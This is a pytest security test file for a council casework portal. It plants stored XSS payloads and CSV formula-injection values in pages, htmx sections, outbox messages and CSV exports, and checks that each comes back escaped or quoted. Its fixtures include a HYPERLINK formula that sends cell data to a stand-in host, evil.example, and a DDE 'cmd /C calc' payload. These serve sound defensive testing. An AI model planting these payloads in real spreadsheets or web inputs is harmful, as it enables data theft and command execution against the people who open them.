"""Stored XSS and CSV injection: a payload in every text a person or member of staff can write is
shown back escaped on every page, htmx section, outbox preview, letter and export that shows it.

The payloads go in through the forms where a form writes them (a resident's reply, a note, a
message to the resident) and straight into the rows otherwise (names, addresses, what happened, a
service, an adjustment, a restriction, a file's name). Every GET endpoint in the route inventory is
then visited as each visitor who may see the text, so a new page is covered as it lands.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select

from shared import clock
from shared.domain.enums import (
    AdjustmentKind,
    CaseKind,
    Channel,
    MessageDirection,
    RepresentativeKind,
    RestrictionCategory,
    RestrictionStatus,
    Role,
)
from shared.models import OutboxMessage, Restriction
from shared.services.reports import FORMULA_STARTS
from unit_tests.security.support import XSS, XSS_SHORT, evaluated, live_payloads, plain_client
from unit_tests.test_route_access import EXPECTED, quick_sign_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def _fixed_time():
    clock.set_now("2027-01-13T10:00:00")


@pytest.fixture
def world(app, make, session):
    service = make.service(name=XSS_SHORT)
    formula_service = make.service(name="+SUM(1,2)")
    ward = make.ward(XSS_SHORT)
    person = make.user(Role.RESIDENT, full_name=XSS, address=XSS, phone="-1+1")
    officer = make.user(Role.OFFICER, full_name=XSS)
    case = make.case(person, service, what_happened=XSS, outcome_wanted=XSS, contact_address=XSS, subject_name=XSS,
                     officer_id=officer.id, ward_id=ward.id)
    formula_case = make.case(make.user(Role.RESIDENT, full_name=FORMULA, address="@SUM(A1:A2)"), formula_service,
                             what_happened="\t=1+1", outcome_wanted="-2", officer_id=officer.id)
    message_id, (file_id,) = make.message(app, case, direction=MessageDirection.IN, body=XSS, author=person,
                                          attachments=((XSS + ".txt", b"plain text"),))
    adjustment = make.adjustment(person, AdjustmentKind.OTHER, detail=XSS)
    restriction = Restriction(person_id=person.id, status=RestrictionStatus.ACTIVE,
                              category=RestrictionCategory.PERSISTENT_CONTACT, types=[], behaviour=XSS, terms=XSS,
                              proposed_by_id=officer.id, proposed_at=clock.utcnow() - timedelta(days=3),
                              decided_by_id=officer.id, decided_at=clock.utcnow() - timedelta(days=2),
                              starts_on=(clock.utcnow() - timedelta(days=2)).date(),
                              review_on=(clock.utcnow() + timedelta(days=90)).date())
    session.add(restriction)
    session.commit()
    councillor = make.user(Role.COUNCILLOR, ward_id=ward.id, full_name=XSS)
    enquiry = make.case(person, service, kind=CaseKind.MEMBER_ENQUIRY, channel=Channel.COUNCILLOR, what_happened=XSS,
                        procedure="member-enquiry", subject_name=XSS, ward_id=ward.id)
    enquiry.entered_by_id = councillor.id
    session.commit()
    make.representative(enquiry, councillor, kind=RepresentativeKind.COUNCILLOR)
    make.organisation(name=XSS_SHORT, helps_with=XSS, contact=XSS)
    make.support_service(name=XSS_SHORT)
    return {"case": case, "formula_case": formula_case, "enquiry": enquiry, "person": person, "officer": officer,
            "councillor": councillor, "manager": make.user(Role.MANAGER), "admin": make.user(Role.ADMIN),
            "ids": {"file_id": file_id, "message_id": message_id, "adjustment_id": adjustment.id,
                    "restriction_id": restriction.id, "customer_id": person.id, "user_id": officer.id}}


def _write_through_forms(app, session, world) -> None:
    """The texts that have a form: the resident's reply, a note and a message to the resident."""
    from unit_tests.strict_client import StrictClient

    reference = world["case"].reference
    resident = StrictClient(app, app.response_class, use_cookies=True)
    quick_sign_in(resident, session, world["person"])
    assert resident.submit(f"/cases/{reference}/reply", {"body": XSS}).status_code == 302
    officer = plain_client(app)
    quick_sign_in(officer, session, world["officer"])
    token = _token(officer, f"/staff/cases/{reference}")
    assert officer.post(f"/staff/cases/{reference}/notes", data={"csrf_token": token, "text": XSS}).status_code == 302
    sent = officer.post(f"/staff/cases/{reference}/messages", data={"csrf_token": token, "body": XSS})
    assert sent.status_code == 302, sent.get_data(as_text=True)[:500]


def _token(client, url: str) -> str:
    page = client.get(url).get_data(as_text=True)
    return re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)


def _urls(app, world) -> list[str]:
    samples = {"token": "not-a-valid-token", "slug": "service", "filename": "dist/portal.css", "detail": "name",
               "decision": "complaint", "message_name": "case_acknowledged", "locale": "cy", "kind": "other",
               "step": "details", "name": "quarterly", "year": 2026, "provision": "6.2", "logo_name": "none",
               **world["ids"]}
    adapter = app.url_map.bind("localhost")
    urls = []
    for endpoint, route in EXPECTED.items():
        if "GET" not in route.methods or endpoint == "static":
            continue
        rule = next(r for r in app.url_map.iter_rules() if r.endpoint == endpoint)
        references = [world[k].reference for k in ("case", "enquiry")] if "reference" in rule.arguments else [None]
        for reference in references:
            values = {name: samples.get(name, 0) for name in rule.arguments if name != "reference"}
            if reference:
                values["reference"] = reference
            urls.append(adapter.build(endpoint, values))
    urls += ["/staff/cases?q=svg", "/staff/customers?q=svg", "/staff/admin/users?q=svg", "/your-data/download"]
    with app.app_context():
        from shared.db import db

        urls += [f"/staff/outbox/{i}" for i in db.session.scalars(select(OutboxMessage.id))]
    return urls


@pytest.mark.parametrize("who", ["person", "officer", "manager", "admin", "councillor"])
def test_stored_payloads_come_back_escaped_everywhere(app, session, world, who):
    _write_through_forms(app, session, world)
    client = plain_client(app)
    quick_sign_in(client, session, world[who])
    failures, shown = [], 0
    for url in _urls(app, world):
        for headers in ({}, {"HX-Request": "true"}) if re.search(r"/cases/[^/]+$", url) else ({},):
            response = client.get(url, headers=headers)
            body = response.get_data(as_text=True) if response.mimetype.startswith("text") or \
                response.mimetype.endswith("json") else ""
            if response.status_code >= 500:
                failures.append(f"{url}: {response.status_code}")
            if response.mimetype == "text/html":
                failures += [f"{url}: {live}" for live in live_payloads(body)]
                shown += "&lt;svg onload=alert(2)&gt;" in body
            if evaluated(body):
                failures.append(f"{url}: the template expression was evaluated")
    assert not failures, "\n".join(failures)
    assert shown >= 3, f"{who} saw the payload on {shown} pages: the test is not exercising anything"


def test_outbox_rows_carry_the_payload_as_plain_text(app, session, world):
    """A message's preview is built from plain text: the payload is in the row as typed (escaped when
    shown, tested above), never turned into markup on the way."""
    _write_through_forms(app, session, world)
    bodies = session.scalars(select(OutboxMessage.body)).all()
    assert bodies and not any(evaluated(b) for b in bodies)


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_case_exports_neutralise_formulas(app, session, world):
    client = plain_client(app)
    quick_sign_in(client, session, world["officer"])
    rows = _csv_rows(client.get("/staff/cases.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the formula case is not in the export"
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert live == [], live
    assert "'" + FORMULA in cells and "'@SUM(A1:A2)" in cells and "'\t=1+1" in cells and "'-1+1" in cells


def _report_names() -> list[str]:
    from shared.services.reports import catalogue

    return list(catalogue.REPORTS)


@pytest.mark.parametrize("name", _report_names())
def test_report_exports_neutralise_formulas(app, session, world, name):
    """Every report's CSV: a service or employee named like a formula reaches the spreadsheet as text."""
    client = plain_client(app)
    quick_sign_in(client, session, world["manager"])
    response = client.get(f"/staff/reports/{name}.csv")
    cells = [cell for row in _csv_rows(response) for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-\d+(\.\d+)?%?", cell)]
    assert live == [], live


def test_a_service_named_like_a_formula_reaches_the_report_as_text(app, session, world):
    """The backlog lists services by name: the one named "+SUM(1,2)" is there, quoted."""
    client = plain_client(app)
    quick_sign_in(client, session, world["manager"])
    cells = [cell for row in _csv_rows(client.get("/staff/reports/backlog.csv")) for cell in row]
    assert "'+SUM(1,2)" in cells


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_quoted_by_both_writers(start):
    """ASVS 1.2.10's list (=, +, -, @, tab, NUL) and carriage return, in report and case CSVs."""
    from shared.services import case_csv
    from shared.services.reports import csv_cell, uncsv_cell

    text = f"{start}cmd|' /C calc'!A0"
    assert csv_cell(text) == "'" + text and uncsv_cell(csv_cell(text)) == text
    [line] = list(case_csv.csv_lines([[text]]))
    assert next(csv.reader(io.StringIO(line))) == ["'" + text]
